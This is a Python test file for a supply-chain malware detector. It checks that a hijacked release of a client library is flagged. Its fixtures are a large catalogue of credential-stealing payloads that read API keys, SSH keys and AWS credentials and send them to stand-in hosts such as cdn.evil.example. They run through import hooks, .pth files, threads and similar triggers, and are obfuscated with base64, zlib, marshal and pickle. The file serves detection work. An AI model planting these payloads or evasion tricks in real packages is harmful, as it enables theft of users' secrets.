"""A release of a popular client library is taken over: whatever way the payload is put, the release is held.

After what litellm 1.82.7 and 1.82.8 did in March 2026, and the ways around a reader that knows only that. The
updates that an honest library gets are in test_honest_releases.py. Everything is judged against the release before,
which reads API keys and reaches the network as such a library does. ``weak-signs`` doesn't count for attacks
here: it sums up what is small, and the next victim is not.
"""

from __future__ import annotations

import base64
import marshal
import zlib

import pytest
from client_library import BASE, BUSY, changed

from support.code import held, scan
from veln_hook.signals.source.judging import would_hold_if_new
from veln_hook.source import vocabulary as v
from veln_hook.source.analysis import analyse_python

OLD = scan(BASE)
BASES = {"quiet": (BASE, OLD), "busy": (BUSY, scan(BUSY))}
"""The release before: one that does nothing when it is imported, and one that makes requests then."""
ATTACKS: dict[str, dict[str, str | None]] = {}
TWO_STEPS: dict[str, tuple[dict[str, str | None], dict[str, str | None]]] = {}


def b64(code):
    return base64.b64encode(code.encode()).decode()


# --- the payload in a function of utils.py, which runs when it is imported -----------------------------------

ATTACKS["23 lines in utils"] = {
    "acme/utils.py": '''+
def _warm_up():
    """Prepare the cache of models."""
    try:
        import requests

        found = {}
        for name in ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
            value = os.environ.get(name)
            if value:
                found[name] = value
        if not found:
            return False
        body = base64.b64encode(json.dumps(found).encode()).decode()
        requests.post(
            "https://models.acme-cdn.example/v1/check",
            data={"version": "1", "models": body},
            timeout=3,
        )
    except Exception:
        pass
    return True


_warm_up()
'''
}

COLLECT = """+
def _collect():
    names = ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")
    return base64.b64encode(json.dumps({name: os.environ.get(name) for name in names}).encode()).decode()


def _report():
    try:
        body = _collect()
        %s
    except Exception:
        pass


_report()
"""
SINKS = {
    "requests.get": "import requests; requests.get('https://cdn.evil.example/p?d=' + body)",
    "requests, imported by name": "from requests import post as p; p('https://cdn.evil.example/p', data=body)",
    "requests.request": "import requests; requests.request('POST', 'https://cdn.evil.example/p', data=body)",
    "requests.Session": "import requests; s = requests.Session(); s.post('https://cdn.evil.example/p', data=body)",
    "requests.Session as a context": "import requests\n        with requests.Session() as s:\n            s.post('https://cdn.evil.example/p', data=body)",
    "urllib": "import urllib.request; urllib.request.urlopen('https://cdn.evil.example/p', data=body.encode())",
    "urllib, by Request": "from urllib.request import Request, urlopen; urlopen(Request('https://cdn.evil.example/p', body.encode()))",
    "urllib, by an opener": "import urllib.request; urllib.request.build_opener().open('https://cdn.evil.example/p', body.encode())",
    "urllib3": "import urllib3; urllib3.PoolManager().request('POST', 'https://cdn.evil.example/p', body=body)",
    "http.client": "import http.client; c = http.client.HTTPSConnection('cdn.evil.example'); c.request('POST', '/p', body)",
    "http.client, imported by name": "from http.client import HTTPSConnection as H; H('cdn.evil.example').request('POST', '/p', body)",
    "socket": "import socket; s = socket.socket(); s.connect(('cdn.evil.example', 443)); s.sendall(body.encode())",
    "socket.create_connection": "import socket; socket.create_connection(('cdn.evil.example', 443)).sendall(body.encode())",
    "socket in a with": "import socket\n        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n            s.sendto(body.encode(), ('cdn.evil.example', 53))",
    "ssl": "import socket, ssl; s = ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='x'); s.connect(('cdn.evil.example', 443)); s.send(body.encode())",
    "smtplib": "import smtplib; m = smtplib.SMTP('mx.evil.example'); m.sendmail('a@evil.example', ['b@evil.example'], body)",
    "ftplib": "import ftplib, io; f = ftplib.FTP('ftp.evil.example'); f.storbinary('STOR x', io.BytesIO(body.encode()))",
    "httpx": "import httpx; httpx.post('https://cdn.evil.example/p', json={'d': body})",
    "httpx.Client": "import httpx\n        with httpx.Client() as c:\n            c.post('https://cdn.evil.example/p', json={'d': body})",
    "aiohttp": (
        "import aiohttp, asyncio\n        async def go():\n            async with aiohttp.ClientSession() as s:\n"
        "                await s.post('https://cdn.evil.example/p', data=body)\n        asyncio.run(go())"
    ),
    "asyncio": "import asyncio\n        async def go():\n            r, w = await asyncio.open_connection('cdn.evil.example', 443)\n            w.write(body.encode())\n        asyncio.run(go())",
    "dns": "import socket; socket.gethostbyname(body[:60] + '.evil.example')",
    "dns, getaddrinfo in an f-string": "from socket import getaddrinfo; getaddrinfo(f'{body[:60]}.evil.example', 80)",
    "xmlrpc": "import xmlrpc.client; xmlrpc.client.ServerProxy('https://cdn.evil.example').put(body)",
    "subprocess curl": "import subprocess; subprocess.run(['curl', '-s', '-d', body, 'https://cdn.evil.example/p'])",
    "subprocess curl, a shell": "import subprocess; subprocess.Popen('curl -s -d ' + body + ' https://cdn.evil.example/p', shell=True)",
    "os.system curl": "os.system('curl -s -d ' + body + ' https://cdn.evil.example/p >/dev/null 2>&1 &')",
    "os.popen wget": "os.popen(f'wget -q --post-data={body} https://cdn.evil.example/p').read()",
    "subprocess nslookup": "import subprocess; subprocess.run(['nslookup', body[:60] + '.evil.example'])",
    "os.execvp": "os.fork() or os.execvp('curl', ['curl', '-d', body, 'https://cdn.evil.example/p'])",
    "telegram": "import requests; requests.get(f'https://api.telegram.org/bot1:a/sendMessage?chat_id=1&text={body}')",
    "git push": "import subprocess; subprocess.run(['git', 'push', 'https://' + body + '@cdn.evil.example/p'])",
}
for sink, statement in SINKS.items():
    ATTACKS[f"sink: {sink}"] = {"acme/utils.py": COLLECT % statement}

# --- how the variables are read ------------------------------------------------------------------------------

SEND = """+
import requests


def _report():
    try:
        %s
        requests.post("https://cdn.evil.example/p", data=body)
    except Exception:
        pass


_report()
"""
READS = {
    "the library's own key": "body = os.environ.get('ACME_API_KEY')",
    "the library's own setting": "from acme.config import API_KEY; body = API_KEY",
    "getenv": "body = os.getenv('OPENAI_API_KEY')",
    "an item": "body = os.environ['OPENAI_API_KEY']",
    "environ imported": "from os import environ; body = environ['OPENAI_API_KEY']",
    "os aliased": "import os as o; body = o.environ['OPENAI_API_KEY']",
    "all of it": "body = json.dumps(dict(os.environ))",
    "all of it, a comprehension": "body = json.dumps({k: v for k, v in os.environ.items()})",
    "all of it, filtered": "body = json.dumps({k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k})",
    "all of it, str": "body = str(os.environ)",
    "all of it, unpacked": "body = json.dumps({**os.environ})",
    "a sweep by keys": "body = ''.join(os.environ[k] for k in os.environ if 'SECRET' in k)",
    "a loop that appends": "body = []\n        for name, value in os.environ.items():\n            if 'TOKEN' in name:\n                body.append(value)",
    "/proc": "body = open('/proc/self/environ').read()",
    "ssh keys": "body = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "ssh keys, pathlib": "import pathlib; body = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()",
    "aws credentials": "body = open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
    "netrc": "import netrc; body = str(netrc.netrc().hosts)",
    "a name put together": "body = os.environ['OPENAI' + '_API_' + 'KEY']",
    "a name decoded": f"body = os.environ[base64.b64decode('{b64('OPENAI_API_KEY')}').decode()]",
    "getattr": "body = getattr(os, 'envi' + 'ron')['OPENAI_API_KEY']",
}
for read, statement in READS.items():
    ATTACKS[f"read: {read}"] = {"acme/utils.py": SEND % statement}

# --- where it stands and how it comes to run -----------------------------------------------------------------

STEAL = """\
    import os
    import requests
    try:
        requests.post("https://cdn.evil.example/p", data=os.environ.get("OPENAI_API_KEY", ""))
    except Exception:
        pass
"""
RUNS = {
    "a thread": f"def _f():\n{STEAL}\nimport threading\nthreading.Thread(target=_f, daemon=True).start()\n",
    "a thread, imported by name": f"def _f():\n{STEAL}\nfrom threading import Thread as T\nT(None, _f).start()\n",
    "a subclass of Thread": f"import threading\nclass _T(threading.Thread):\n    def run(self):\n{STEAL.replace('    ', '        ')}\n_T().start()\n",
    "a timer": f"def _f():\n{STEAL}\nimport threading\nthreading.Timer(60, _f).start()\n",
    "an executor": f"def _f():\n{STEAL}\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor(1).submit(_f)\n",
    "a process": f"def _f():\n{STEAL}\nimport multiprocessing\nmultiprocessing.Process(target=_f).start()\n",
    "atexit": f"def _f():\n{STEAL}\nimport atexit\natexit.register(_f)\n",
    "atexit, a decorator": f"import atexit\n@atexit.register\ndef _f():\n{STEAL}\n",
    "asyncio.run": f"import asyncio\nasync def _f():\n{STEAL}\nasyncio.run(_f())\n",
    "a metaclass": f"class _M(type):\n    def __new__(cls, *args):\n{STEAL.replace('    ', '        ')}\n        return super().__new__(cls, *args)\nclass _C(metaclass=_M):\n    pass\n",
    "a metaclass's call": f"class _M(type):\n    def __call__(cls, *args):\n{STEAL.replace('    ', '        ')}\nclass _C(metaclass=_M):\n    pass\n_C()\n",
    "a decorator": f"def _d(function):\n{STEAL}\n    return function\n@_d\ndef _g():\n    return 1\n",
    "a decorator with arguments": f"def _d(name):\n{STEAL}\n    return lambda function: function\n@_d('x')\ndef _g():\n    return 1\n",
    "a decorator of a class": f"def _d(function):\n{STEAL}\n    return function\n@_d\nclass _G:\n    pass\n",
    "a class body": f"class _Defaults:\n{STEAL}\n",
    "a default argument": f"def _f():\n{STEAL}\ndef send(key=_f()):\n    return key\n",
    "a keyword default": f"def _f():\n{STEAL}\ndef send(*, key=_f()):\n    return key\n",
    "__init_subclass__": f"class _B:\n    def __init_subclass__(cls):\n{STEAL.replace('    ', '        ')}\nclass _C(_B):\n    pass\n",
    "__set_name__": f"class _D:\n    def __set_name__(self, owner, name):\n{STEAL.replace('    ', '        ')}\nclass _C:\n    d = _D()\n",
    "__init__": f"class _C:\n    def __init__(self):\n{STEAL.replace('    ', '        ')}\n_C()\n",
    "__enter__": f"class _C:\n    def __enter__(self):\n{STEAL.replace('    ', '        ')}\nwith _C():\n    pass\n",
    "__del__": f"class _C:\n    def __del__(self):\n{STEAL.replace('    ', '        ')}\n_C()\n",
    "a method of an instance": f"class _C:\n    def go(self):\n{STEAL.replace('    ', '        ')}\n_C().go()\n",
    "a method of an instance with a name": f"class _C:\n    def go(self):\n{STEAL.replace('    ', '        ')}\n_c = _C()\n_c.go()\n",
    "a static method": f"class _C:\n    @staticmethod\n    def go():\n{STEAL.replace('    ', '        ')}\n_C.go()\n",
    "a property": f"class _C:\n    @property\n    def go(self):\n{STEAL.replace('    ', '        ')}\n_C().go\n",
    "a lambda": "import os, requests\n_f = lambda: requests.post('https://cdn.evil.example/p', data=os.environ['OPENAI_API_KEY'])\n_f()\n",
    "a lambda at once": "import os, requests\n(lambda: requests.post('https://cdn.evil.example/p', data=os.environ['OPENAI_API_KEY']))()\n",
    "a comprehension": f"def _f():\n{STEAL}\n[f() for f in (_f,)]\n",
    "map": f"def _f(_):\n{STEAL}\nlist(map(_f, [1]))\n",
    "a dict of functions": f"def _f():\n{STEAL}\n{{'x': _f}}['x']()\n",
    "globals": f"def _f():\n{STEAL}\nglobals()['_f']()\n",
    "a partial": f"def _f(x):\n{STEAL}\nfrom functools import partial\npartial(_f, 1)()\n",
    "an alias": f"def _f():\n{STEAL}\n_g = _f\n_g()\n",
    "an if of the platform": f"import sys\nif sys.platform != 'win32':\n{STEAL}\n",
    "a condition on the name": f"if __name__ != '__main__':\n{STEAL}\n",
    "a function in a function": f"def _g():\n    def _f():\n{STEAL.replace('    ', '        ')}\n    _f()\n_g()\n",
    "a generator": f"def _g():\n{STEAL}\n    yield 1\nnext(_g())\n",
    "signal": f"def _f(*_):\n{STEAL}\nimport signal\nsignal.signal(signal.SIGALRM, _f)\nsignal.alarm(5)\n",
    "weakref.finalize": f"def _f():\n{STEAL}\nimport weakref\nclass _C: pass\nweakref.finalize(_C, _f)\n",
    "an import hook": f"import sys\nclass _H:\n    def find_spec(self, *args):\n{STEAL.replace('    ', '        ')}\nsys.meta_path.insert(0, _H())\n",
    "sys.excepthook": f"def _f(*_):\n{STEAL}\nimport sys\nsys.excepthook = _f\n",
}
for run, code in RUNS.items():
    ATTACKS[f"runs by: {run}"] = {"acme/utils.py": f"+{code}"}

FILES = {
    "a new file, imported by __init__": {
        "acme/_telemetry.py": f"def _f():\n{STEAL}\n_f()\n",
        "acme/__init__.py": "+from acme import _telemetry\n",
    },
    "a new file, imported relatively": {
        "acme/_telemetry.py": f"def _f():\n{STEAL}\n_f()\n",
        "acme/__init__.py": "+from . import _telemetry\n",
    },
    "a new file, a function called elsewhere": {
        "acme/_telemetry.py": f"def start():\n{STEAL}\n",
        "acme/__init__.py": "+from ._telemetry import start\nstart()\n",
    },
    "a new file, called through a package's names": {
        "acme/metrics/__init__.py": "from acme.metrics._impl import start\n",
        "acme/metrics/_impl.py": f"def start():\n{STEAL}\n",
        "acme/utils.py": "+import acme.metrics\n\nacme.metrics.start()\n",
    },
    "a new file, starred": {
        "acme/_telemetry.py": f"def start():\n{STEAL}\n",
        "acme/utils.py": "+from acme._telemetry import *\nstart()\n",
    },
    "a new file, by importlib": {
        "acme/_telemetry.py": f"def start():\n{STEAL}\n",
        "acme/utils.py": "+import importlib\nimportlib.import_module('acme._telemetry').start()\n",
    },
    "read in one, sent in another, called from a third": {
        "acme/config.py": "+\ndef gather():\n    return {name: os.environ.get(name) for name in ('OPENAI_API_KEY', 'GITHUB_TOKEN')}\n",
        "acme/client.py": "+\ndef ping(data):\n    return requests.post('https://cdn.evil.example/p', json=data, timeout=3)\n",
        "acme/__init__.py": "+from acme.client import ping\nfrom acme.config import gather\n\ntry:\n    ping(gather())\nexcept Exception:\n    pass\n",
    },
    "read in one, sent in another, quietly, by a helper": {
        "acme/config.py": "+\ndef gather():\n    return os.environ.get('GITHUB_TOKEN')\n",
        "acme/utils.py": "+\ndef pack(data):\n    return base64.b64encode(json.dumps(data).encode()).decode()\n",
        "acme/client.py": "+\ndef ping(data):\n    return requests.post('https://cdn.evil.example/p', json=data, timeout=3)\n",
        "acme/models.py": "+\nfrom acme.client import ping\nfrom acme.config import gather\nfrom acme.utils import pack\n\ndef _register():\n    value = pack(gather())\n    ping({'v': value})\n\n_register()\n",
    },
    "what it has is called at import": {
        "acme/__init__.py": "+from acme.config import Settings\nimport requests\n\ntry:\n    requests.post('https://cdn.evil.example/p', json=Settings.from_env().headers())\nexcept Exception:\n    pass\n",
    },
    "a pth that starts an interpreter": {
        "acme_init.pth": f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{b64(STEAL)}\"))'])\n"
    },
    "a pth that imports a module": {
        "acme_init.pth": "import acme._telemetry\n",
        "acme/_telemetry.py": f"def _f():\n{STEAL}\n_f()\n",
    },
    "a pth that calls a function": {
        "acme_init.pth": "import acme.utils; acme.utils._f()\n",
        "acme/utils.py": f"+def _f():\n{STEAL}\n",
    },
    "a pth in the data directory": {
        "acme-1.0.data/purelib/acme_init.pth": "import os; os.system('id')\n",
    },
    "a start file": {"acme.start": "acme.utils:_f\n", "acme/utils.py": f"+def _f():\n{STEAL}\n"},
    "sitecustomize": {"sitecustomize.py": f"def _f():\n{STEAL}\n_f()\n"},
    "a new top-level module that shadows": {"typing_extensions.py": f"def _f():\n{STEAL}\n_f()\n"},
    "a module that writes a pth": {
        "acme/utils.py": "+import site\nwith open(os.path.join(site.getsitepackages()[0], 'acme.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")')\n"
    },
    "an extension that is loaded": {
        "acme/_speed.so": "\x7fELF" + "connect\0execve\0",
        "acme/utils.py": "+import ctypes\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_speed.so')).start()\n",
    },
    "bytecode": {"acme/_speed.pyc": "\xcb\r\r\n", "acme/utils.py": "+import acme._speed\n"},
    "code far to the right": {"acme/utils.py": "+x = 1;" + " " * 300 + "import os; os.system('id')\n"},
    "the source of a file of data": {
        "acme/data.txt": STEAL,
        "acme/utils.py": "+exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())\n",
    },
}
for place, files in FILES.items():
    ATTACKS[f"file: {place}"] = files

# --- how it is hidden ----------------------------------------------------------------------------------------

SOURCE = "import os,requests;requests.post('https://cdn.evil.example/p',data=dict(os.environ))"
PACKED = base64.b64encode(zlib.compress(SOURCE.encode())).decode()
CODE = base64.b64encode(zlib.compress(marshal.dumps(compile(SOURCE, "x", "exec")))).decode()
HIDDEN = {
    "dynamic names": "getattr(__import__('re' + 'quests'), 'po' + 'st')('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "dynamic names, reversed": "getattr(__import__('stseuqer'[::-1]), 'tsop'[::-1])('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "importlib": "import importlib\nimportlib.import_module('requests').post('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "sys.modules": "import requests, sys\nsys.modules['requests'].post('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "a name from a variable": "import requests\nverb = 'po' + 'st'\ngetattr(requests, verb)('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "__dict__": "import requests\nrequests.__dict__['post']('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "vars": "import requests\nvars(requests)['post']('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "operator.attrgetter": "import requests, operator\noperator.attrgetter('post')(requests)('https://cdn.evil.example/p', data=os.environ.get('OPENAI_API_KEY'))",
    "exec of a list of chr": f"exec(''.join(chr(c) for c in {[ord(char) for char in SOURCE]}))",
    "exec of map chr": f"exec(''.join(map(chr, {[ord(char) for char in SOURCE]})))",
    "exec of chr sums": "exec(" + " + ".join(f"chr({ord(char)})" for char in SOURCE) + ")",
    "exec of xor": f"exec(''.join(chr(c ^ 7) for c in {[ord(char) ^ 7 for char in SOURCE]}))",
    "exec of bytes": f"exec(bytes({list(SOURCE.encode())}))",
    "exec of hex": f"exec(bytes.fromhex('{SOURCE.encode().hex()}'))",
    "exec of base64": f"exec(base64.b64decode('{b64(SOURCE)}'))",
    "exec of base64, compiled": f"exec(compile(base64.b64decode('{b64(SOURCE)}'), '<string>', 'exec'))",
    "exec of base64 twice": f"exec(base64.b64decode(base64.b64decode('{b64(b64(SOURCE))}')))",
    "exec of zlib": f"import zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))",
    "exec of marshal": f"import zlib, marshal\nexec(marshal.loads(zlib.decompress(base64.b64decode('{CODE}'))))",
    "exec of rot13": f"import codecs\nexec(codecs.decode({__import__('codecs').encode(SOURCE, 'rot13')!r}, 'rot13'))",
    "exec under another name": f"e = exec\ne(base64.b64decode('{b64(SOURCE)}'))",
    "exec by builtins": f"import builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('{b64(SOURCE)}'))",
    "exec by __builtins__": f"__builtins__['exec'](base64.b64decode('{b64(SOURCE)}'))",
    "eval of __import__": "eval(\"__import__('os').system('curl https://cdn.evil.example/p | sh')\")",
    "exec in a helper": f"def _run(text):\n    exec(base64.b64decode(text))\n_run('{b64(SOURCE)}')",
    "a helper that decodes": f"def _d(text):\n    return base64.b64decode(text).decode()\nexec(_d('{b64(SOURCE)}'))",
    "a class that decodes": f"class _D:\n    def __init__(self, text):\n        self.text = text\n    def get(self):\n        return base64.b64decode(self.text)\nexec(_D('{b64(SOURCE)}').get())",
    "a payload in a variable": f"_DATA = '{b64(SOURCE)}'\ndef _f():\n    exec(base64.b64decode(_DATA))\n_f()",
    "a payload in pieces": f"_DATA = ['{b64(SOURCE)[:40]}', '{b64(SOURCE)[40:]}']\nexec(base64.b64decode(''.join(_DATA)))",
    "an interpreter with -c": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', base64.b64decode('{b64(SOURCE)}').decode()])",
    "an interpreter with -c, quietly": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)",
    "an interpreter fed on stdin": f"import subprocess, sys\nsubprocess.run([sys.executable, '-'], input=base64.b64decode('{b64(SOURCE)}'))",
    "a temporary file": f"import subprocess, sys, tempfile\nwith tempfile.NamedTemporaryFile('wb', suffix='.py', delete=False) as f:\n    f.write(base64.b64decode('{b64(SOURCE)}'))\nsubprocess.Popen([sys.executable, f.name])",
    "a temporary file by pathlib": f"import subprocess, sys, pathlib\npath = pathlib.Path('/tmp/p.py')\npath.write_bytes(base64.b64decode('{b64(SOURCE)}'))\nsubprocess.Popen([sys.executable, str(path)])",
    "a temporary file, in functions": f"import subprocess, sys, tempfile\ndef _drop():\n    name = tempfile.mktemp()\n    with open(name, 'w') as f:\n        f.write(base64.b64decode('{b64(SOURCE)}').decode())\n    return name\ndef _go(name):\n    subprocess.Popen([sys.executable, name])\n_go(_drop())",
    "a second stage": "import requests\nexec(requests.get('https://cdn.evil.example/p.py').text)",
    "a second stage, urllib": "from urllib.request import urlopen\nexec(urlopen('https://cdn.evil.example/p.py').read())",
    "a second stage by json": "import requests\nexec(requests.get('https://cdn.evil.example/p').json()['code'])",
    "a second stage in functions": "import requests\ndef _get():\n    return requests.get('https://cdn.evil.example/p.py').text\ndef _go():\n    exec(_get())\n_go()",
    "a second stage, a file": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://cdn.evil.example/p', '/tmp/p')\nos.chmod('/tmp/p', 0o755)\nsubprocess.Popen('/tmp/p')",
    "a second stage with pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'acme-telemetry'])",
    "types.FunctionType": f"import types, marshal\ntypes.FunctionType(marshal.loads(base64.b64decode('{b64('x' * 40)}')), globals())()",
    "pickle": "import pickle\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIuY29zCnN5c3RlbQo='))",
}
for hiding, code in HIDDEN.items():
    ATTACKS[f"hidden: {hiding}"] = {"acme/utils.py": f"+{code}\n"}

# --- spread over two releases --------------------------------------------------------------------------------

TWO_STEPS["reads first, sends next"] = (
    {
        "acme/utils.py": "+_KEYS = {name: os.environ.get(name) for name in ('OPENAI_API_KEY', 'GITHUB_TOKEN')}\n"
    },
    {
        "acme/utils.py": "+import requests\n\ntry:\n    requests.post('https://cdn.evil.example/p', json=_KEYS)\nexcept Exception:\n    pass\n"
    },
)
TWO_STEPS["a helper first, its call next"] = (
    {"acme/utils.py": f"+def _f():\n{STEAL}\n"},
    {"acme/utils.py": "+_f()\n"},
)
TWO_STEPS["a helper first, its call from elsewhere next"] = (
    {"acme/utils.py": f"+def _f():\n{STEAL}\n"},
    {"acme/__init__.py": "+from acme.utils import _f\n\n_f()\n"},
)
TWO_STEPS["a request at import first, its data next"] = (
    {
        "acme/utils.py": "+import requests\n\ndef _ping(data):\n    requests.post('https://cdn.evil.example/p', json=data)\n"
    },
    {
        "acme/__init__.py": "+import os\nfrom acme.utils import _ping\n\n_ping(os.environ.get('OPENAI_API_KEY'))\n"
    },
)
TWO_STEPS["a payload first, exec next"] = (
    {"acme/utils.py": f"+_LOGO = base64.b64decode('{b64(SOURCE)}')\n"},
    {"acme/utils.py": "+exec(_LOGO)\n"},
)
TWO_STEPS["a file first, its pth next"] = (
    {"acme/_telemetry.py": f"def start():\n{STEAL}\n"},
    {"acme_init.pth": "import acme._telemetry; acme._telemetry.start()\n"},
)


each_base = pytest.mark.parametrize("base", BASES)


@each_base
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_held(name, base):
    files, old = BASES[base]
    assert held(scan(changed(ATTACKS[name], files)), old)


@pytest.mark.parametrize("name", ATTACKS)
def test_the_first_release_of_it_would_ask_for_a_baseline(name):
    assert would_hold_if_new(scan(changed(ATTACKS[name])))


@each_base
@pytest.mark.parametrize("name", TWO_STEPS)
def test_an_attack_in_two_steps_is_held_at_the_second(name, base):
    first, second = TWO_STEPS[name]
    before = changed(first, BASES[base][0])
    assert held(scan(changed(second, before)), scan(before))


SNIPPETS = {
    f"{name}, {path}": text.lstrip("+")
    for name, files in ATTACKS.items()
    for path, text in files.items()
    if path.endswith(".py") and text is not None and path != "acme/client.py"
}


@pytest.mark.parametrize("name", SNIPPETS)
def test_a_payload_in_a_file_of_its_own_is_read(name):
    data = f"import base64\nimport json\nimport os\n{SNIPPETS[name]}".encode()
    everything, quickly = analyse_python(data, always=True), analyse_python(data)
    assert _acts(quickly) == _acts(everything)


def _acts(facts):
    acting = {v.NET, v.DNS, v.PROC, v.EXEC, v.LOAD, v.NATIVE, v.STARTUP_FILE}
    return {each.kind for scope in facts.scopes for each in scope.capabilities if each.kind in acting}
